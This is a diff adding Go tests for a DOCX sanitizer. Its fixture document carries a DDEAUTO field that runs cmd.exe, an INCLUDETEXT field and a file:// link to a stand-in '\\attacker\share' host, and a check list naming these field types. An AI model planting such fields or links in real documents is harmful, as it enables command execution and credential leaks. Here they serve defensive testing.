@@ -0,0 +1,149 @@
+package docx
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/vortex/go-docx/pkg/docx/opc"
+	"github.com/vortex/go-docx/pkg/docx/oxml"
+)
+
+// makeUnsafeDocument returns a macro-enabled document holding one of each
+// thing Sanitize removes, reopened from its saved bytes.
+func makeUnsafeDocument(t *testing.T) *Document {
+	t.Helper()
+	d, err := OpenBytes(makeFlavoredPackage(t, opc.CTWmlDocumentMacroEnabled, true))
+	if err != nil {
+		t.Fatal(err)
+	}
+	addEmbeddedObject(t, d, "/word/embeddings/oleObject1.bin",
+		opc.CTOfcOleObject, opc.RTOleObject, "Package", []byte{0xD0, 0xCF, 0x11, 0xE0})
+
+	ax := opc.NewBasePart("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
+		[]byte(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`), d.wmlPkg.OpcPackage)
+	d.wmlPkg.AddPart(ax)
+	axID := d.part.Rels().GetOrAdd(opc.RTControl, ax).RID
+	p, err := d.AddParagraph("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctl := p.p.RawElement().CreateElement("w:r").CreateElement("w:object").CreateElement("w:control")
+	ctl.CreateAttr("r:id", axID)
+
+	web := d.part.Rels().GetOrAddExtRel(opc.RTHyperlink, "https://example.com/")
+	smb := d.part.Rels().GetOrAddExtRel(opc.RTHyperlink, `file://\\attacker\share`)
+	p, err = d.AddParagraph("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rID := range []string{web, smb} {
+		h := p.p.RawElement().CreateElement("w:hyperlink")
+		h.CreateAttr("r:id", rID)
+		h.CreateElement("w:r").CreateElement("w:t").SetText("link")
+	}
+
+	p, err = d.AddParagraph("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	runs, _ := oxml.NewComplexFieldRuns(`INCLUDETEXT "\\\\attacker\\share\\x.docx"`, "included", nil)
+	for _, r := range runs {
+		p.p.RawElement().AddChild(r)
+	}
+	dde := p.p.RawElement().CreateElement("w:fldSimple")
+	dde.CreateAttr("w:instr", ` DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc" `)
+	dde.CreateElement("w:r").CreateElement("w:t").SetText("dde")
+	runs, _ = oxml.NewComplexFieldRuns("PAGE", "1", nil)
+	for _, r := range runs {
+		p.p.RawElement().AddChild(r)
+	}
+
+	var buf bytes.Buffer
+	if err := d.Save(&buf); err != nil {
+		t.Fatal(err)
+	}
+	reopened, err := OpenBytes(buf.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return reopened
+}
+
+func TestSanitize(t *testing.T) {
+	d := makeUnsafeDocument(t)
+	report := Sanitize(d, nil)
+
+	for k, want := range map[SanitizeKind]int{
+		SanitizedMacros:         1,
+		SanitizedActiveX:        1,
+		SanitizedEmbeddedObject: 1,
+		SanitizedField:          2,
+		SanitizedExternalTarget: 2,
+	} {
+		if got := report.Count(k); got != want {
+			t.Errorf("Count(%s) = %d, want %d; items %+v", k, got, want, report.Items)
+		}
+	}
+	if report.Items[0].Detail != "/word/vbaProject.bin" {
+		t.Errorf("macros item = %+v", report.Items[0])
+	}
+
+	var buf bytes.Buffer
+	if err := d.Save(&buf); err != nil {
+		t.Fatal(err)
+	}
+	clean, err := OpenBytes(buf.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if clean.ContentTypeKind() != KindDocument || clean.HasMacros() {
+		t.Errorf("kind = %s, macros = %v", clean.ContentTypeKind(), clean.HasMacros())
+	}
+	if len(clean.EmbeddedObjects()) != 0 {
+		t.Error("embedded object kept")
+	}
+	for _, part := range clean.wmlPkg.IterParts() {
+		if strings.HasPrefix(string(part.PartName()), "/word/activeX/") {
+			t.Errorf("ActiveX part %s kept", part.PartName())
+		}
+	}
+	if ext := clean.wmlPkg.ExternalRelationships(); len(ext) != 0 {
+		t.Errorf("external relationships kept: %v", ext[0].TargetRef)
+	}
+	body := clean.part.Element()
+	xml := oxml.SerializeForReading(body)
+	for _, bad := range []string{"w:object", "w:control", "INCLUDETEXT", "DDEAUTO", "r:id"} {
+		if strings.Contains(xml, bad) {
+			t.Errorf("document still holds %s", bad)
+		}
+	}
+	for _, kept := range []string{"included", "dde", "link", "PAGE"} {
+		if !strings.Contains(xml, kept) {
+			t.Errorf("document lost %q", kept)
+		}
+	}
+	if !Sanitize(clean, nil).Clean() {
+		t.Error("second Sanitize removed more")
+	}
+}
+
+func TestSanitize_Policy(t *testing.T) {
+	d := makeUnsafeDocument(t)
+	report := Sanitize(d, &SanitizePolicy{
+		KeepMacros: true, KeepWebLinks: true, KeepEmbeddedObjects: true, KeepActiveX: true,
+	})
+	if len(report.Items) != 3 || report.Count(SanitizedField) != 2 {
+		t.Fatalf("items = %+v", report.Items)
+	}
+	if it := report.Items[2]; it.Kind != SanitizedExternalTarget || !strings.HasPrefix(it.Detail, "file:") {
+		t.Errorf("external item = %+v", it)
+	}
+	if !d.HasMacros() || d.ContentTypeKind() != KindMacroEnabledDocument || len(d.EmbeddedObjects()) != 1 {
+		t.Error("kept content removed")
+	}
+	ext := d.wmlPkg.ExternalRelationships()
+	if len(ext) != 1 || ext[0].TargetRef != "https://example.com/" {
+		t.Errorf("external relationships = %d", len(ext))
+	}
+}